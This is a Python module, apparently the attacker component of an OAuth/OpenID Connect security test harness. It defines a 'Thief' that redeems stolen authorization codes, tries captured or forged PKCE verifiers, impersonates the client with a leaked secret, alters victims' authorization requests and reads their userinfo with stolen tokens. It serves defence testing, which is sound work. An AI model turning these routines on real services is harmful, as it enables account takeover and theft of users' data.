"""The thief: redeems what it captured, and reads the victim's data with the token.

It works from loot alone. The client's identifier, redirect URI and scopes it learns as everybody
can: by starting a login of its own and reading where the client sends it.
"""

import asyncio
from collections.abc import Callable, Iterable, Mapping
from typing import Any
from urllib.parse import parse_qsl, urlencode

import httpx

from attacker.app_copy import AppCopy
from attacker.loot import LootBag, LootItem, NothingCapturedError, Sighting
from attacker.own_client import TORCH
from attacker.redirect_handlers.port_taker import PortTaker
from attacker.token_request import ASKS_FOR_JSON, STRAIGHT, Bent, extended, identified, member, send
from attacker.vantage import Leg, Vantage
from attacker.verifiers import Verifiers
from attacker.wiretap import heard, overhears, own_login, sightings
from reports.records import Exchange, Handover

type Change = Callable[[dict[str, str]], Mapping[str, str]]
"""What an attacker makes of the parameters of somebody's authorization request."""


class Thief:
    """One attacker in one play. ``client`` is the public address of the honest client.

    ``metadata`` is what the provider publishes; where it is empty, the discovery document will say.
    ``own`` is an app that the thief has registered there, ``secret_in_header`` and
    ``named_in_form`` say how the client shows its secret, ``elsewhere`` is a redirect URI that the
    client does not use, one of its own if it has registered several. ``change`` is what the thief
    makes of the victim's authorization requests, where it can alter them. ``addresses`` are those
    that it answers at on a host that it shares with the client, ``process`` is what runs for it on
    the victim's device. While ``lets_pass`` is not set, it holds up the client's token requests,
    where it reads them.
    """

    def __init__(
        self,
        http: httpx.AsyncClient,
        loot: LootBag,
        client: str,
    ) -> None:
        self.loot = loot
        self.http = http
        self.own = TORCH
        self.elsewhere = "https://elsewhere.test/callback"
        self.metadata: Mapping[str, Any] = {}
        self.secret_in_header = False
        self.named_in_form = False
        self._usual = STRAIGHT
        self.own_exchange = ""
        self.change: Change | None = None
        self.addresses: set[str] = set()
        self.process = PortTaker()
        self.lets_pass = asyncio.Event()
        self.lets_pass.set()
        self.app = AppCopy(http, loot, client, lambda: self.own_exchange)
        self.verifiers = Verifiers(loot, self._studied, self._start_own_login, self.app.unpack)
        self._client = client
        self._login: Sighting | None = None

    @property
    def vantage(self) -> Vantage:
        """What this thief can see."""
        return self.loot.vantage

    def witness(self, exchange: Exchange) -> None:
        """Take in an exchange, as far as it was audible and the vantage reaches."""
        if not overhears(exchange):
            return
        if exchange.source == "thief":
            self.own_exchange = exchange.id
        for sighting in sightings(exchange):
            self.loot.show(sighting)

    def overhear(self, handover: Handover) -> None:
        """Take in what reached it in another way than by HTTP: a log, the arguments of a process.

        Also as far as the vantage reaches.
        """
        for sighting in heard(handover):
            self.loot.show(sighting)

    async def receive_code(self) -> LootItem:
        """The authorization code, once the channel has delivered it.

        Raises :class:`NothingCapturedError` when it does not.
        """
        return await self.loot.wait_for("code", Leg.AUTHORIZATION_RESPONSE, Leg.TOKEN_REQUEST)

    def catch(self, kind: str = "code") -> LootItem | None:
        """The newest code (or other loot) of the victim's that was shown, if there is one."""
        return self.loot.find(
            kind,
            Leg.AUTHORIZATION_RESPONSE,
            Leg.FRAGMENT,
            Leg.TOKEN_REQUEST,
            Leg.TOKEN_RESPONSE,
            Leg.OWN_SERVER,
        )

    async def study_client(self) -> None:
        """Start a login of its own, and see how the client asks for a code.

        Also reads the provider's discovery document (RFC 8414), which is public, beside the
        authorization endpoint, unless it knows already what the provider publishes. Raises
        :class:`NothingCapturedError`.
        """
        if self._login is not None:
            return
        login = await self._start_own_login()
        if not self.metadata:
            issuer = login.text.partition("?")[0].rpartition("/")[0]
            answer = await self.http.get(f"{issuer}/.well-known/openid-configuration")
            self.metadata = answer.raise_for_status().json()
        self._login = login

    def holds_secret(self, client_id: str, secret: str) -> None:
        """Give the thief the client's secret, as if that had leaked: it comes with its requests.

        So a defence must hold by itself (RFC 9700 section 2.1.1 wants PKCE of clients that have a
        secret, too).
        """
        self.make_up("client_secret", secret)
        self._usual = self._as_client(client_id, secret)

    def posing_with(self, secret: str) -> Bent:
        """What makes a token request one of the client's, with a secret that the thief invents.

        It comes as the client's own does, or a server might refuse it for that.
        """
        self.make_up("client_secret", secret)
        client_id = self.loot.need("client_id", Leg.OWN).value
        return self._as_client(client_id, secret)

    async def redeem(
        self, code: LootItem | None, verifier: LootItem | None = None, bent: Bent = STRAIGHT
    ) -> LootItem | None:
        """Redeem a code (RFC 6749 section 4.1.3); the token, or ``None`` when it was refused.

        Without a code there is nothing to redeem. ``bent`` breaks the rules of the request.
        """
        if code is None:
            return None
        await self.study_client()
        form = {
            "grant_type": "authorization_code",
            "code": code.value,
            "client_id": self.loot.need("client_id", Leg.OWN).value,
            "redirect_uri": self.loot.need("redirect_uri", Leg.OWN).value,
        }
        if verifier is not None:
            form["code_verifier"] = verifier.value
        return await self._ask_for_token(form, bent)

    async def try_each(
        self, code: LootItem | None, verifiers: Iterable[LootItem]
    ) -> LootItem | None:
        """Redeem a code with one verifier after the other until one fits; without any, with none.

        The token, or ``None`` when all were refused.
        """
        candidates: list[LootItem | None] = [*verifiers]
        for verifier in candidates or [None]:
            if token := await self.redeem(code, verifier):
                return token
        return None

    async def refresh(self, token: LootItem | None, bent: Bent = STRAIGHT) -> LootItem | None:
        """Use a refresh token (RFC 6749 section 6); the access token, or ``None`` if refused."""
        if token is None:
            return None
        await self.study_client()
        form = {
            "grant_type": "refresh_token",
            "refresh_token": token.value,
            "client_id": self.loot.need("client_id", Leg.OWN).value,
        }
        return await self._ask_for_token(form, bent)

    async def use(self, token: LootItem | None, *, in_url: bool = False) -> None:
        """Read the victim's data at userinfo (OpenID Connect Core section 5.3), given a token.

        As a bearer token in the header, or in the URL (RFC 6750 sections 2.1 and 2.3).
        """
        if token is None:
            return
        await self.study_client()
        endpoint = self.metadata["userinfo_endpoint"]
        if in_url:
            by_url = extended(endpoint, [("access_token", token.value)])
            await self.http.get(by_url, headers=ASKS_FOR_JSON)
        else:
            bearer = {"Authorization": f"Bearer {token.value}", **ASKS_FOR_JSON}
            await self.http.get(endpoint, headers=bearer)

    def lasting(self) -> dict[str, str]:
        """What to ask for, in the client's name, to be given a refresh token.

        The client's own scope, and ``offline_access`` where the provider knows that, for which
        users must be asked (OpenID Connect Core section 11).
        """
        usual = self._own_login().parameters.get("scope", "")
        if "offline_access" not in self.metadata.get("scopes_supported", ()):
            return {"scope": usual}
        scope = dict.fromkeys([*usual.split(), "offline_access"])
        return {"scope": " ".join(scope), "prompt": "consent"}

    def known_redirect_uri(self) -> str:
        """Where the client has its codes sent. Raises :class:`NothingCapturedError`."""
        return self.loot.need("redirect_uri", Leg.OWN).value

    def build_authorization_request(
        self, more: Iterable[tuple[str, str]] = (), **changes: str | None
    ) -> str:
        """An authorization request in the client's name with a challenge of the thief's own.

        RFC 8252 section 8.6. ``changes`` replaces parameters, or leaves them out where the value is
        ``None``; ``more`` adds some, also second ones of a name. Raises
        :class:`NothingCapturedError` before :meth:`study_client`.
        """
        template = self._own_login()
        request: dict[str, str | None] = dict(template.parameters)
        if "code_challenge" in request and "code_challenge" not in changes:
            request["code_challenge"] = self.verifiers.new_challenge(template)
        request |= changes
        pairs = [(name, value) for name, value in request.items() if value is not None]
        url = f"{template.text.partition('?')[0]}?{urlencode([*pairs, *more])}"
        self._keep_request(url, self.own_exchange, "built by itself")
        return url

    def alter(self, url: str, seen_in: str) -> str:
        """The victim's authorization request as it travels on, past a thief who changes it."""
        if self.change is None or not self.vantage.alters_request:
            return url
        address, _, query = url.partition("?")
        altered = f"{address}?{urlencode(self.change(dict(parse_qsl(query))))}"
        self._keep_request(altered, seen_in, "altered on its way")
        return altered

    def send_on(self, parameters: Mapping[str, str]) -> str:
        """Where a server of the thief's own sends a user on to: the honest one (RFC 9700 4.4).

        With the request that it was sent, but in the client's name at the honest server. Raises
        :class:`NothingCapturedError` before :meth:`study_client`.
        """
        template = self._own_login()
        request = {**parameters, "client_id": template.parameters["client_id"]}
        url = f"{template.text.partition('?')[0]}?{urlencode(request)}"
        self._keep_request(url, self.own_exchange, "written by a server of its own")
        return url

    def answer_at(self, url: str) -> None:
        """Answer there, if it lies on a host that the client has not for itself alone."""
        self.addresses.add(url)

    def make_up(self, kind: str, value: str) -> LootItem:
        """A value that the thief invents, such as a verifier that should not be accepted."""
        return self.loot.add(LootItem(kind, value, Leg.OWN, self.own_exchange, "made up"))

    def _as_client(self, client_id: str, secret: str) -> Bent:
        in_header, named = self.secret_in_header, self.named_in_form
        return identified(client_id, secret, in_header, named_in_form=named)

    async def _ask_for_token(self, form: dict[str, str], bent: Bent) -> LootItem | None:
        # Who speaks for another client does not bring this one's secret.
        whole = bent if "client_id" in bent.changes else bent.on(self._usual)
        answer = await send(self.http, self.metadata["token_endpoint"], form, whole)
        for kind in ("refresh_token", "access_token"):
            if value := member(answer, kind):
                where = "the answer of the token endpoint"
                self.loot.add(LootItem(kind, value, Leg.OWN, self.own_exchange, where))
        return self.loot.find("access_token", Leg.OWN) if member(answer, "access_token") else None

    async def _start_own_login(self) -> Sighting:
        answer = await self.http.get(self._client)
        login = own_login(self.own_exchange, answer.headers.get("location", ""))
        if login is None:
            raise NothingCapturedError(
                f"the client answered {answer.status_code} to a login, without sending the thief "
                "to a provider"
            )
        self.loot.show(login)
        return login

    async def _studied(self) -> Sighting:
        await self.study_client()
        return self._own_login()

    def _own_login(self) -> Sighting:
        if self._login is None:
            raise NothingCapturedError("the thief has not studied the client yet")
        return self._login

    def _keep_request(self, url: str, seen_in: str, where: str) -> None:
        self.loot.add(LootItem("authorization_request", url, Leg.OWN, seen_in, where))
